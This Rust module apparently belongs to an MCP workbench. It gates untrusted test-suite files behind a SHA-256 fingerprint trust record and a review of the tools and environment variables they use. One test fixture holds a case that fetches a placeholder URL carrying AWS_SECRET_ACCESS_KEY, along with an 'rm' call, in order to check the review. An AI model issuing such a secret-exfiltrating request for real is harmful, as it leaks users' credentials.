//! Consent before a suite runs. A suite file is code from whoever wrote it:
//! its cases call tools with the arguments it chose and read the
//! environment (`${env:VAR}`). One the person did not write — a project's,
//! a clone's, one named from outside their own folder — runs only once
//! they have trusted exactly its bytes (a SHA-256 fingerprint kept in the
//! app's data folder, machine-local); a changed file asks again.
//!
//! - The person's own suites (`suites/` beside their own mcp.json, in the
//!   workbench's config folder, reached without a link) are trusted as
//!   they are.
//! - A suite the window writes for the person (Save to suite) is trusted
//!   as written when it was new or trusted before; an untrusted file stays
//!   untrusted after such an edit.
//! - [`Review`] is what the person sees before trusting: every tool it
//!   would call and every environment variable it reads.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use serde_json::Value;
use sha2::{Digest, Sha256};

use super::Suite;
use workbench_core::files::record_key;
use workbench_core::{ErrorCode, ErrorInfo};

/// The fingerprint of a suite file's bytes (`sha256:` and hex).
pub fn fingerprint(bytes: &[u8]) -> String {
    let digest = Sha256::digest(bytes);
    let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
    format!("sha256:{hex}")
}

/// What a suite would do, shown before the person trusts it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Review {
    pub path: String,
    /// Of the file's bytes as read now: trusting passes it back, so a file
    /// changed between the look and the click is not trusted.
    pub fingerprint: String,
    /// Every `server/tool` its cases call (surface checks call nothing).
    pub calls: Vec<String>,
    /// Every environment variable its cases read (`${env:VAR}`).
    pub env: Vec<String>,
    /// Its prompt cases: the models its prompts go to (`PROVIDER:MODEL`,
    /// each a paid request)...
    pub models: Vec<String>,
    /// ...and the servers whose tools those models may call (under the
    /// person's rules: a tool that may change things only under a rule).
    pub eval_servers: Vec<String>,
    pub trusted: bool,
    /// In the person's own suites folder (trusted by where it is).
    pub own: bool,
    /// Made from recorded data (a host's session: its arguments were
    /// written by the host or its model): trusted only once looked at.
    pub made_from: Option<String>,
}

/// The environment variables `value` reads (`${env:VAR}`, not `$${`).
pub(super) fn env_refs(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(s) => {
            let mut rest = s.as_str();
            while let Some(at) = rest.find("${env:") {
                // `$${` is a literal, not a reference.
                let literal = at > 0 && rest.as_bytes()[at - 1] == b'$';
                let after = &rest[at + 6..];
                let Some(end) = after.find('}') else { break };
                if !literal {
                    out.push(after[..end].to_string());
                }
                rest = &after[end..];
            }
        }
        Value::Array(items) => items.iter().for_each(|v| env_refs(v, out)),
        Value::Object(map) => map.values().for_each(|v| env_refs(v, out)),
        _ => {}
    }
}

/// What `suite` would call and read.
pub fn review(suite: &Suite, trust: &SuiteTrust) -> Review {
    let mut calls = Vec::new();
    let mut env = Vec::new();
    for case in &suite.cases {
        if let Some(tool) = &case.tool {
            let server = case
                .server
                .as_deref()
                .or(suite.server.as_deref())
                .unwrap_or("?");
            calls.push(format!("{server}/{tool}"));
        }
        env_refs(&case.arguments, &mut env);
    }
    let mut models = suite.models.clone();
    let mut eval_servers = Vec::new();
    for p in &suite.prompts {
        models.extend(p.models.iter().flatten().cloned());
        eval_servers.extend(p.servers_with(suite.server.as_deref()));
    }
    models.sort();
    models.dedup();
    eval_servers.sort();
    eval_servers.dedup();
    calls.sort();
    calls.dedup();
    env.sort();
    env.dedup();
    // A suite made from a session is someone else's input wherever it lies.
    let own = trust.is_own(&suite.path) && suite.made_from.is_none();
    Review {
        path: suite.path.display().to_string(),
        fingerprint: suite.fingerprint.clone(),
        calls,
        env,
        models,
        eval_servers,
        trusted: own || trust.is_trusted(&suite.path, &suite.fingerprint),
        own,
        made_from: suite.made_from.clone(),
    }
}

#[derive(Debug, Default, Serialize, Deserialize)]
struct Record {
    /// Suite file (absolute) → the fingerprint trusted.
    #[serde(default)]
    suites: BTreeMap<String, String>,
}

/// The suites' trust record and the person's own folder. Cheap to clone.
#[derive(Clone, Debug)]
pub struct SuiteTrust {
    record: PathBuf,
    own: Option<PathBuf>,
}

impl SuiteTrust {
    /// The record at `record`; `own`: the person's own suites folder.
    pub fn at(record: PathBuf, own: Option<PathBuf>) -> SuiteTrust {
        SuiteTrust { record, own }
    }

    /// The workbench's: the record in the app's data folder, the person's
    /// own folder beside the workbench's own mcp.json.
    pub fn app() -> SuiteTrust {
        let own = workbench_core::config::default_user_config()
            .parent()
            .map(|d| d.join("suites"));
        SuiteTrust::at(
            workbench_core::paths::data_dir().join("suite-trust.json"),
            own,
        )
    }

    fn read(&self) -> Record {
        std::fs::read(&self.record)
            .ok()
            .and_then(|b| serde_json::from_slice(&b).ok())
            .unwrap_or_default()
    }

    /// Whether `path` is a plain file in the person's own suites folder.
    pub fn is_own(&self, path: &Path) -> bool {
        let Some(own) = &self.own else { return false };
        let plain = std::fs::symlink_metadata(path).is_ok_and(|m| m.file_type().is_file());
        plain
            && workbench_core::files::stays_inside(path, own)
            && std::fs::symlink_metadata(own).is_ok_and(|m| m.is_dir())
    }

    pub fn is_trusted(&self, path: &Path, fingerprint: &str) -> bool {
        self.read()
            .suites
            .get(&record_key(path))
            .map(String::as_str)
            == Some(fingerprint)
    }

    /// Trust the file at `path` as it is when it has `fingerprint`; a file
    /// that changed since is not trusted (Err says so).
    pub fn trust(&self, path: &Path, fingerprint: &str) -> Result<(), ErrorInfo> {
        let now = workbench_core::files::read_no_follow(path, super::MAX_FILE)
            .map_err(|e| ErrorInfo::new(ErrorCode::Invalid, format!("{}: {e}", path.display())))?;
        if self::fingerprint(&now) != fingerprint {
            return Err(ErrorInfo::new(
                ErrorCode::Refused,
                format!(
                    "{} changed since it was shown; look at it again before trusting it",
                    path.display()
                ),
            ));
        }
        self.record(path, fingerprint)
            .map_err(|m| ErrorInfo::new(ErrorCode::Storage, m))
    }

    /// Record `fingerprint` for `path` (the workbench wrote it for the person).
    pub(super) fn record(&self, path: &Path, fingerprint: &str) -> Result<(), String> {
        // Read, changed and written under its lock: the window and `mcpwb`
        // trusting two suites at once keep both.
        let _held = workbench_core::files::lock_beside(&self.record);
        let mut record = self.read();
        record
            .suites
            .insert(record_key(path), fingerprint.to_string());
        let text = serde_json::to_vec_pretty(&record).map_err(|e| e.to_string())?;
        if let Some(dir) = self.record.parent() {
            std::fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
        }
        workbench_core::files::write_private_atomic(&self.record, &text).map_err(|e| e.to_string())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn suite_at(dir: &Path, name: &str, text: &str) -> Suite {
        let path = dir.join(name);
        std::fs::write(&path, text).unwrap();
        super::super::parse(&path, text).unwrap()
    }

    #[test]
    fn a_suite_is_trusted_for_its_bytes_and_shows_what_it_calls_and_reads() {
        let home = tempfile::tempdir().unwrap();
        let project = tempfile::tempdir().unwrap();
        let own = home.path().join("suites");
        std::fs::create_dir(&own).unwrap();
        let trust = SuiteTrust::at(home.path().join("data/suite-trust.json"), Some(own.clone()));
        let text = r#"{"server": "mine", "cases": [
            {"name": "a", "tool": "fetch", "arguments": {"url": "https://x/?k=${env:AWS_SECRET_ACCESS_KEY}", "h": ["${env:GITHUB_TOKEN}", "$${env:LITERAL}"]}},
            {"name": "b", "server": "other", "tool": "rm"},
            {"name": "c", "surface": {"tool": "z"}},
            {"name": "d", "prompt": "hi", "servers": ["weather"], "models": ["ollama:llama3.1:8b"]}],
            "models": ["openai:gpt-5-mini"]}"#;
        let s = suite_at(project.path(), "s.json", text);
        let r = review(&s, &trust);
        assert!(!r.trusted && !r.own);
        assert_eq!(r.calls, ["mine/fetch", "other/rm"]);
        assert_eq!(r.env, ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]);
        assert_eq!(r.models, ["ollama:llama3.1:8b", "openai:gpt-5-mini"]);
        assert_eq!(r.eval_servers, ["weather"]);
        trust.trust(&s.path, &r.fingerprint).unwrap();
        assert!(review(&s, &trust).trusted);
        // A pull that changes a byte asks again; trusting a stale look fails.
        let changed = suite_at(project.path(), "s.json", &text.replace("rm", "rm2"));
        assert!(!review(&changed, &trust).trusted);
        assert!(trust.trust(&changed.path, &r.fingerprint).is_err());
        // The person's own folder is theirs; a link into it from outside is not.
        let mine = suite_at(&own, "m.json", text);
        assert!(review(&mine, &trust).own && review(&mine, &trust).trusted);
        assert!(!trust.is_own(&project.path().join("s.json")));
        let inner_link = own.join("l.json");
        std::os::unix::fs::symlink(project.path().join("s.json"), &inner_link).unwrap();
        assert!(
            !trust.is_own(&inner_link),
            "a link in the own folder is not own"
        );
    }

    /// The window and `mcpwb` trusting suites at once: every one stays
    /// trusted (none of the record's changes written over).
    #[test]
    fn suites_trusted_at_once_all_stay_trusted() {
        let dir = tempfile::tempdir().unwrap();
        let record = dir.path().join("suite-trust.json");
        let suite = |i: usize| dir.path().join(format!("s{i}.json"));
        for i in 0..8 {
            std::fs::write(suite(i), format!("{{ \"cases\": [], \"n\": {i} }}")).unwrap();
        }
        let print = |i: usize| fingerprint(&std::fs::read(suite(i)).unwrap());
        let threads: Vec<_> = (0..8)
            .map(|i| {
                let (trust, path, fp) = (SuiteTrust::at(record.clone(), None), suite(i), print(i));
                std::thread::spawn(move || trust.trust(&path, &fp).unwrap())
            })
            .collect();
        for t in threads {
            t.join().unwrap();
        }
        let trust = SuiteTrust::at(record, None);
        let kept = (0..8)
            .filter(|&i| trust.is_trusted(&suite(i), &print(i)))
            .count();
        assert_eq!(kept, 8);
    }
}
